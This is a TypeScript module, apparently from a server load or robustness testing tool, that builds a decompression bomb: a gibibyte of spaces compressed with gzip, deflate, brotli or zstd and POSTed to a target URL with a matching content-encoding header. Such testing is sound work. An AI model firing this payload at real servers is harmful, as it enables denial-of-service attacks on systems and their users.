import { request } from "node:http";
import { pipeline, Readable, Writable } from "node:stream";
import { promisify } from "node:util";
import { constants, createBrotliCompress, createDeflate, createGzip, createZstdCompress } from "node:zlib";
import type { Target } from "./load.ts";

const GIBIBYTE = 1024 ** 3;
const PIECE = Buffer.alloc(1024 * 1024, " ");
const TIMEOUT_MS = 120_000;

export type Encoding = "gzip" | "deflate" | "br" | "zstd";

/** Posts a gibibyte of white space, compressed, and returns the status. */
export async function sendBomb(target: Target, encoding: Encoding): Promise<number> {
  const body = await packed(encoding);
  return new Promise((resolve, reject) => {
    const sent = request(
      `${target.url}?${target.query}`,
      {
        method: "POST",
        timeout: TIMEOUT_MS,
        headers: { "content-encoding": encoding, "content-length": body.length },
      },
      (answer) => {
        answer.resume();
        resolve(answer.statusCode ?? 0);
      },
    );
    sent.on("error", reject);
    sent.on("timeout", () => sent.destroy(new Error("no answer")));
    sent.end(body);
  });
}

async function packed(encoding: Encoding): Promise<Buffer> {
  const compressor = {
    gzip: () => createGzip({ level: 1 }),
    deflate: () => createDeflate({ level: 1 }),
    br: () => createBrotliCompress({ params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }),
    zstd: () => createZstdCompress(),
  }[encoding]();
  const parts: Buffer[] = [];
  const source = Readable.from(
    (function* pieces() {
      for (let sent = 0; sent < GIBIBYTE; sent += PIECE.length) yield PIECE;
    })(),
  );
  const sink = new Writable({
    write(part: Buffer, _encoding, done) {
      parts.push(part);
      done();
    },
  });
  await promisify(pipeline)(source, compressor, sink);
  return Buffer.concat(parts);
}
